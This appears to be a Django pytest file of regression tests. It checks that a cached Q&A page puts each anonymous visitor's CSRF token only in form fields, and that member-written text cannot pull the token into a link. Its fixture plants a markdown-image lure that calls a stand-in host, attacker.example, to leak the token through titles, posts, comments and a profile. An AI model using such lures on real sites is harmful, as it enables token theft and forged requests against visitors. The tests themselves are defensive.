"""A cached page gives each anonymous visitor their own CSRF token in its form fields and
nowhere else: nothing a member writes (a title, a body, a comment, a profile) can make a
visitor's token appear in a link or an image address of the page."""

import re

import pytest
from django.test import Client
from django.urls import reverse

from questions import services
from tests import factories
from tests.clients import client_for

pytestmark = pytest.mark.django_db

# What the page cache put in place of the token before: text that user content can hold.
OLD_PLACEHOLDER = "csrf-token-of-the-visitor"
TOKEN_FIELD = re.compile(r'<input type="hidden" name="csrfmiddlewaretoken" value="([^"]+)">')
LURE = f"![x](https://attacker.example/p.png?t={OLD_PLACEHOLDER})"


@pytest.fixture
def lured_thread():
    """A thread whose title, body, answer, comment and author's profile carry the lure."""
    member = factories.user(display_name="Mallory", reputation=500)
    client_for(member).post(
        reverse("accounts:profile_edit"),
        {"display_name": "Mallory", "about_markdown": LURE, "location": "", "website": ""},
    )
    question = factories.question(
        title=f"Why is {OLD_PLACEHOLDER} shown here?",
        body=f'{LURE}\n\nAlso name="csrfmiddlewaretoken" value="{OLD_PLACEHOLDER}" as text.',
        author=member,
        tags=["grammar"],
    )
    services.answer_create(author=member, question=question, body=f"See {LURE} for the details.")
    services.comment_create(author=member, post=question, body=f"Look: {LURE} {OLD_PLACEHOLDER}")
    return question


def served_twice(url):
    """The page as a new anonymous visitor gets it, rendered and then from the cache."""
    visitor = Client()
    first = visitor.get(url).content.decode()
    second = Client().get(url).content.decode()
    return first, second


@pytest.mark.parametrize("page", ["thread", "list", "tag"])
def test_a_visitors_token_is_only_in_the_pages_token_fields(lured_thread, page):
    url = {
        "thread": lured_thread.get_absolute_url(),
        "list": "/?tab=newest",
        "tag": "/questions/tagged/grammar/",
    }[page]

    for html in served_twice(url):
        tokens = TOKEN_FIELD.findall(html)
        assert tokens, "the page has forms with a token"
        assert len(set(tokens)) == 1
        assert html.count(tokens[0]) == len(tokens)
        assert OLD_PLACEHOLDER in html  # the member's text is shown as written
        assert f"https://attacker.example/p.png?t={tokens[0]}" not in html


def test_two_visitors_of_a_cached_page_get_tokens_of_their_own(lured_thread):
    url = lured_thread.get_absolute_url()
    Client().get(url)  # fills the cache

    first, second = Client(enforce_csrf_checks=True), Client(enforce_csrf_checks=True)
    tokens = [TOKEN_FIELD.findall(each.get(url).content.decode())[0] for each in (first, second)]

    assert tokens[0] != tokens[1]
    assert first.cookies["csrftoken"].value and second.cookies["csrftoken"].value
    response = first.post(
        reverse("questions:vote", args=[lured_thread.pk]),
        {"value": "up", "csrfmiddlewaretoken": tokens[0]},
    )
    assert response.status_code != 403  # the token from the cached page is accepted


def test_the_profile_shows_the_lure_as_written_and_no_token_in_it(lured_thread):
    html = Client().get(lured_thread.author.get_absolute_url()).content.decode()

    assert OLD_PLACEHOLDER in html
    for token in TOKEN_FIELD.findall(html):
        assert f"p.png?t={token}" not in html
